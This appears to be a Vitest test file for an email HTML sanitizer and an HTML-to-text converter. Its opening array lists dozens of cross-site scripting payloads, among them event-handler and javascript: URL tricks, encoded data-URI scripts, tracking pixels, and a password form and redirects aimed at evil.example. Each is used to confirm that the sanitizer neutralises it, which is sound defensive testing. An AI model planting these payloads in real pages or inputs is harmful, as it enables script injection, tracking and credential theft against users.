import { describe, expect, it } from 'vitest'
import { limitHtmlTags, sanitizeEmailHtml } from '../../../src/capture/parse/html.js'
import { MAX_HTML_TAGS } from '../../../src/capture/parse/limits.js'
import { htmlToText } from '../../../src/capture/parse/html-text.js'
import { htmlHazards } from '../../helpers/fixtures.js'

const XSS_PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<IMG SRC="jav&#x09;ascript:alert(1)">',
  '<img src="&#x6a;avascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">X</text></a></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="/relative/path">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<iframe src="http://evil.example/"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<style>@import url(http://evil.example/x.css); body { background: url(http://tracker.example/p.gif) }</style>',
  '<div style="background-image: url(http://tracker.example/p.gif)">x</div>',
  '<div style="background: url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<p style="position: fixed; top: 0; left: 0; z-index: 99999">overlay</p>',
  '<div style="color: red; background-image: image-set(\'http://tracker.example/p.gif\' 1x)">x</div>',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<base href="http://evil.example/">',
  '<link rel="stylesheet" href="http://evil.example/x.css">',
  '<form action="http://evil.example/"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
  '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">',
  '<applet code="x.class"></applet>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="http://tracker.example/open.gif?u=ann">',
  '<img src="https://tracker.example/open.gif">',
  '<img src="//tracker.example/open.gif">',
  '<img srcset="http://tracker.example/1x.gif 1x" src="cid:ok">',
  '<table background="http://tracker.example/bg.gif"><tr><td background="http://tracker.example/td.gif">x</td></tr></table>',
  '<body background="http://tracker.example/bg.gif">x</body>',
  '<video poster="http://tracker.example/p.gif" src="http://tracker.example/v.mp4"></video><audio src="http://tracker.example/a.mp3"></audio>',
  '<picture><source srcset="http://tracker.example/s.gif"><img src="cid:ok"></picture>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src=x onerror=alert(1)>-->',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input onfocus=alert(1) autofocus>',
  '<isindex action=javascript:alert(1) type=image>',
  '<x onclick=alert(1)>x</x>',
  '<div id="location" name="cookie" class="x">clobber</div>',
  '<a href="https://ok.example/" target="_blank" rel="opener" onclick="steal()">ok</a>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
]

function assertInert(html: string): void {
  expect(htmlHazards(html), html).toEqual([])
}

describe('sanitizeEmailHtml', () => {
  for (const payload of XSS_PAYLOADS) {
    it(`neutralises ${payload.slice(0, 70)}`, () => {
      assertInert(sanitizeEmailHtml(payload))
      assertInert(sanitizeEmailHtml(`<div>${payload}</div><p>after</p>`))
    })
  }

  it('is checked by an inspector that does flag the raw payloads', () => {
    for (const payload of XSS_PAYLOADS.filter((p) => !p.startsWith('<!--') && !p.startsWith('<scr<'))) {
      expect(htmlHazards(payload), payload).not.toEqual([])
    }
  })

  it('keeps the whole list inert when concatenated', () => {
    assertInert(sanitizeEmailHtml(XSS_PAYLOADS.join('\n')))
  })

  it('keeps presentation, cid and data images, and safe links', () => {
    const html = sanitizeEmailHtml(
      '<table width="100%" cellpadding="4"><tr><td style="color: #333; font-size: 14px; background-color: rgb(250, 250, 250)">Hi</td></tr></table>' +
        '<img src="cid:logo@x" alt="logo"><img src="data:image/png;base64,iVBORw0KGgo=">' +
        '<a href="https://x.example/a?b=1&amp;c=2">web</a> <a href="mailto:ann@fund.example">mail</a>',
    )
    expect(html).toBe(
      '<table width="100%" cellpadding="4"><tr><td style="color:#333;font-size:14px;background-color:rgb(250, 250, 250)">Hi</td></tr></table>' +
        '<img alt="logo" src="cid:logo@x" /><img src="data:image/png;base64,iVBORw0KGgo=" />' +
        '<a href="https://x.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">web</a> ' +
        '<a href="mailto:ann@fund.example" rel="noopener noreferrer nofollow">mail</a>',
    )
  })

  it('drops the text of script, style, head and title but keeps text after </html>', () => {
    expect(sanitizeEmailHtml('<html><head><title>T</title></head><body><p>a</p><script>x</script></body></html>tail')).toBe('<p>a</p>tail')
  })
})

describe('deeply nested markup', () => {
  it(`is cut after ${MAX_HTML_TAGS} tags, so sanitising stays fast`, () => {
    const bomb = `${'<div>'.repeat(200_000)}deep`
    const start = performance.now()
    expect(sanitizeEmailHtml(bomb).startsWith('<div><div>')).toBe(true)
    expect(htmlToText(bomb)).toBe('')
    expect(performance.now() - start).toBeLessThan(5000)
    expect(limitHtmlTags('<p>a</p> < b <!-- c --> </p>')).toBe('<p>a</p> < b <!-- c --> </p>')
    expect(limitHtmlTags('<b>'.repeat(MAX_HTML_TAGS + 5))).toBe('<b>'.repeat(MAX_HTML_TAGS))
  })
})

describe('htmlToText', () => {
  it('lays out blocks, lists, breaks, rules and links', () => {
    expect(
      htmlToText(
        '<h1>Title</h1><p>One<br>two<br><br>three</p><ul><li>a</li><li>b</li></ul><hr><div>x <a href="https://y.example">y</a> <a href="https://z.example">https://z.example</a> <a href="mailto:m@x.example">m@x.example</a></div>',
      ),
    ).toBe('Title\n\nOne\ntwo\n\nthree\n\n* a\n* b\n\n---\nx y (https://y.example) https://z.example m@x.example')
  })

  it('collapses whitespace except in <pre>, decodes entities and drops invisible parts', () => {
    expect(htmlToText('<style>p{}</style><p>  a \n  b&nbsp;&amp;&lt;c&gt; &quot;d&quot; &#39;e&#39;</p><pre>  x\n    y</pre>')).toBe(
      'a b &<c> "d" \'e\'\n\n  x\n    y',
    )
  })

  it('puts table cells apart and rows on lines', () => {
    expect(htmlToText('<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>')).toBe('a b\nc d')
  })

  it('is linear on long runs of spaces and newlines', () => {
    const start = performance.now()
    htmlToText(`<pre>${' '.repeat(200_000)}x${'\n'.repeat(200_000)}y</pre>`)
    expect(performance.now() - start).toBeLessThan(3000)
  })

})
